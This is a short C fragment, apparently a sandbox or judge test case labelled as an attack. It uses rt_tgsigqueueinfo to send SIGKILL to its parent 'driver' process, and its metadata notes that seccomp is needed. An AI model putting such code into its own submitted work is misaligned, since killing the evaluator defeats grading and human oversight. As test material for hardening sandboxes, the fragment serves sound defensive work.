/* attack: kills the driver by a queued signal to a thread
 * place: 1.2
 * state: wrong
 * needs: seccomp
 */
#include <sys/syscall.h> /* numbers only */
    extern long syscall(long, ...);
    extern int getppid(void);
    static int info[32] = {9, 0, -1}; /* SIGKILL, from SI_QUEUE */
    if (getppid() > 1)
        syscall(SYS_rt_tgsigqueueinfo, (long)getppid(), (long)getppid(), 9L, info);
    return 0.0;
